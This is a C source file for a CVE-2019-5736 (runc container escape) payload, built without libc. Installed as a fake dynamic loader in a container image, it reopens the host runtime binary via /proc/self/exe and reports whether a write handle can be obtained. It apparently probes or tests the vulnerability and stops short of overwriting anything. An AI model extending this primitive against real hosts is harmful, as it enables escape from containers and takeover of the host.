/* CVE-2019-5736's payload: installed in an image as /lib64/ld-linux-x86-64.so.2, it runs
 * as the ELF interpreter of whatever dynamic binary the kernel is asked to run, so of the
 * host's Python if a "#!/proc/self/exe" script (or a symlink to /proc/self/exe) ever makes
 * the runtime exec its own interpreter in the container. It reports what it got: the
 * device and inode of /proc/self/exe, and whether that reopened for writing (a patient
 * attacker keeps the descriptor and retries until no Python runs on the host).
 * No libc: built with gcc -nostdlib -static-pie (ET_DYN, loaded anywhere). */
typedef unsigned long u64;
static long sys(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
static void put(const char *s) { volatile long n = 0; while (s[n]) n++; sys(1, 1, (long)s, n, 0); }
static void num(long v) { char b[24]; int i = 23; b[i] = 0; int neg = v < 0; if (neg) v = -v; do { b[--i] = '0' + v % 10; v /= 10; } while (v); if (neg) b[--i] = '-'; put(b + i); }
struct st { u64 dev, ino, nlink; unsigned mode, uid, gid, pad; u64 rdev; long size, blksize, blocks; u64 t[6]; long r[3]; };
void _start(void) {
    long fd = sys(2, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0, 0);
    put("exe-open "); num(fd < 0 ? fd : 0); put("\n");
    if (fd >= 0) {
        struct st s;
        sys(5, fd, (long)&s, 0, 0);
        put("exe-id "); num((long)s.dev); put(" "); num((long)s.ino); put("\n");
        char path[] = "/proc/self/fd/XX";
        path[14] = '0' + fd / 10; path[15] = '0' + fd % 10;
        if (fd < 10) { path[14] = '0' + fd; path[15] = 0; }
        long w = sys(2, (long)path, 1 /* O_WRONLY */, 0, 0);
        put("exe-write "); num(w < 0 ? w : 0); put("\n");
    }
    sys(60, 0, 0, 0, 0);
}
